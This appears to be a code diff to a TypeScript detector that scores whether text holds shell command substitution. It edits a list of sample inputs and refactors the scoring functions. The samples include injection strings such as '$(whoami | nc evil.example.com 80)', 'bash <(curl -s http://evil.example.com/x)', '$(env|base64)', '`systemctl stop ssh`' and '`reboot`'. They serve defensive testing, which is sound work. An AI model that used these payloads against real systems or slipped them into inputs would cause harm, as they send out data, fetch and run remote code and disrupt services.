@@ -27,19 +27,16 @@ export const substitution: ValueRule = {
       body: { host },
     })),
     { body: { 'query.country': 'it came too late $(env|base64)' } },
+    { body: { 'query.name': 'www.example.com`id -u` it came too late' } },
     'x;`for f in id; do echo $f; done`',
     "The lamp came in a box that was much too large'$(id)' and so on",
     "The lamp came in a box that was much too large'`hostname`' and so on",
     'The files that I mean are these: $(curl http://evil.example.com/a)',
-    '$(nslookup evil.example.com)',
-    '`id`',
-    'photo$(sleep 7).jpg',
-    'who$(echo am)i',
+    ...['$(nslookup evil.example.com)', '`id`', 'photo$(sleep 7).jpg', 'who$(echo am)i'],
     'bash <(curl -s http://evil.example.com/x)',
     'a.png${x:-$(dmesg)}',
     'It is broken again.$(systemctl stop ssh)',
-    '$(. /etc/hosts)',
-    ...['12`sudo -l`', 'holiday`systemctl stop ssh`', '-`reboot`'],
+    ...['$(. /etc/hosts)', '12`sudo -l`', 'holiday`systemctl stop ssh`', '-`reboot`'],
     'It ends with $(cat /etc/hosts) as usual',
     'It ends with $(curl http://evil.example.com/) as usual',
     'It ends with $(whoami | nc evil.example.com 80) as usual',
@@ -71,8 +68,7 @@ export const substitution: ValueRule = {
     '`less` or `more`?',
     "bad option `id'!",
     ...['What does `whoami` do?', '#### [`git add`](/docs/add)'],
-    '\\$(\\w+|[^}]*)',
-    'Add $(npm root --global) to the path.',
+    ...['\\$(\\w+|[^}]*)', 'Add $(npm root --global) to the path.'],
     '> `npm install --save @types/node`',
     '- [meta] export `./package.json` [`#9`](https://example.com/9)',
     '### `hostname`\n\n* `ip` {string}',
@@ -162,14 +158,17 @@ function closedScore(subject: Subject, command: Command, isListed: boolean): num
   const isPlaced = isPlacedAt(subject, command) || isGluedTo(text, head.start);
   if (isPlaced && (command.structured || command.fit === fit.full)) return confidence.certain;
   if (command.fit === fit.full) return mentionScore(text, command, isListed);
-  return command.fit === fit.weak ? weakScore(text, command) : aloneScore(text, command, isPlaced);
+  if (command.fit === fit.weak) return weakScore(text, command);
+  return aloneScore(subject, command, isPlaced);
 }
 
 /** A command without arguments. */
-function aloneScore(text: string, command: Command, isPlaced: boolean): number {
+function aloneScore(subject: Subject, command: Command, isPlaced: boolean): number {
+  const { text } = subject;
   const ends = isClosed(text, command);
   if (command.fit === fit.sureAlone) return ends || isPlaced ? confidence.strong : confidence.hint;
-  const isLast = isOfScript(text, command) || endsValue(text, command.end + 1);
+  const isHere = isOfScript(text, command) || isInValue(subject, command.head.start);
+  const isLast = isHere || endsValue(text, command.end + 1);
   if (!ends || !isPlaced || !isLast) return confidence.trace;
   return command.fit === fit.alone ? confidence.strong : confidence.likely;
 }
@@ -333,7 +332,8 @@ function standsAlone(subject: Subject, start: number, end: number): boolean {
   const { text } = subject;
   if (text.charAt(end) === ']' || text.charAt(start - 1) === '[') return false;
   if (isInSentence(text, start, end) && !isInValue(subject, start)) return false;
-  const ends = endsValue(text, end) || endsInValue(subject, end);
+  const isJoint = joint.test(text.charAt(start - 1)) && isInValue(subject, start);
+  const ends = isJoint || endsValue(text, end) || endsInValue(subject, end);
   return (isBesideValue(subject, start) && ends) || isGluedTo(text, start);
 }
 
@@ -390,6 +390,7 @@ function isInSentence(text: string, start: number, end: number): boolean {
 }
 
 const wordAfter = /^ \p{L}/u;
+const joint = /[\w.@/-]/;
 const quotes = '"\'';
 
 function closing(text: string, command: Command): number {
